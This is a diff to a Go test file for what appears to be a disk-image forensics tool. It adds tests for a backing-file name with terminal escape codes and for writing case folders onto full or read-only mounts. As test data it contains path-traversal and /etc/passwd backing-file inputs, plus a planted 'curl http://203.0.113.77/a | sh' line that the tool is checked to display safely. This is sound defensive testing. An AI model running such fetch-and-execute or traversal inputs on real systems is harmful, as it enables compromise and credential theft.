@@ -90,12 +90,14 @@ func TestBadInput(t *testing.T) {
 		qcow("loop2.qcow2", "-u", "-b", "loop1.qcow2", "-F", "qcow2")
 		qcow("passwd.qcow2", "-u", "-b", "/etc/passwd", "-F", "raw")
 		qcow("up.qcow2", "-u", "-b", "../../../../../../../../etc/passwd", "-F", "raw")
+		qcow("escape.qcow2", "-u", "-b", "gone\x1b[31m\n", "-F", "raw")
 		qcow("nbd.qcow2", "-u", "-b", "nbd:192.0.2.1:10809", "-F", "raw")
 		cases = append(cases, []struct{ image, want string }{
 			{"blank.qcow2", "blank.qcow2: neither a partition table nor a filesystem was found"},
 			{"cut.qcow2", "cut.qcow2: qcow2: truncated"},
 			{"head.qcow2", "head.qcow2: qcow2: "},
 			{"missing.qcow2", `missing.qcow2: backing file "gone.qcow2": is missing`},
+			{"escape.qcow2", `escape.qcow2: backing file "gone\x1b[31m\x0a": is missing`},
 			{"loop1.qcow2", "leads back to the image: a loop"},
 			{"passwd.qcow2", `passwd.qcow2: backing file "/etc/passwd": refused: it lies outside the folder of the image`},
 			{"up.qcow2", "refused: it lies outside the folder of the image"},
@@ -399,5 +401,56 @@ func TestTerminal(t *testing.T) {
 	}
 	if out := screen(nil, "icecore cat evil.img /etc/rc.local"); !strings.Contains(out, `\x1b[31mcurl http://203.0.113.77/a | sh\x0d`) || !strings.Contains(out, `bytes that are not printable were written as \xNN`) {
 		t.Errorf("text on a terminal: %q", out)
+	}
+}
+
+// TestCaseFolderOnMount makes case folders on filesystems of their own, as an evidence
+// disk is one: on the top of it; where there is not room enough, where the report is
+// shown nevertheless and nothing is left; and where nothing can be written.
+func TestCaseFolderOnMount(t *testing.T) {
+	if os.Getuid() != 0 {
+		t.Skip("needs root, to mount a filesystem")
+	}
+	dir := t.TempDir()
+	name := filepath.Join(dir, "image.raw")
+	copyFile(t, sample(t, fixtures.Compromised), name, 0o644)
+	mnt := filepath.Join(dir, "mnt")
+	if err := os.Mkdir(mnt, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range []struct {
+		options, out string
+		code         int
+		stderr       string
+		left         int // files
+	}{
+		{"size=64m", "mnt", exitDone, "", 6},
+		{"size=64m", "mnt/case", exitDone, "", 1},
+		{"size=200k", "mnt", exitFailed, "no space left on device", 0},
+		{"size=200k", "mnt/case", exitFailed, "no space left on device", 0},
+		{"size=64m,ro", "mnt/case", exitFailed, "read-only file system", 0},
+	} {
+		flags := uintptr(0)
+		options, ro := strings.CutSuffix(c.options, ",ro")
+		if ro {
+			flags = syscall.MS_RDONLY
+		}
+		if err := syscall.Mount("none", mnt, "tmpfs", flags, options); err != nil {
+			t.Skipf("a filesystem cannot be mounted here: %v", err)
+		}
+		stdout, stderr, code := run(t, dir, "analyze", "-q", "-o", c.out, "image.raw")
+		left, err := os.ReadDir(mnt)
+		if uerr := syscall.Unmount(mnt, 0); uerr != nil || err != nil {
+			t.Fatal(uerr, err)
+		}
+		if code != c.code || !strings.Contains(string(stderr), c.stderr) || c.stderr == "" && len(stderr) > 0 || strings.Count(string(stderr), "\n") > 1 {
+			t.Errorf("%s, -o %s: exit code %d, stderr %q", c.options, c.out, code, stderr)
+		}
+		if shown := strings.HasPrefix(string(stdout), "COMPROMISED "); shown == ro {
+			t.Errorf("%s, -o %s: the report is %.60q", c.options, c.out, stdout)
+		}
+		if len(left) != c.left {
+			t.Errorf("%s, -o %s: in the folder are %v, want %d", c.options, c.out, left, c.left)
+		}
 	}
 }
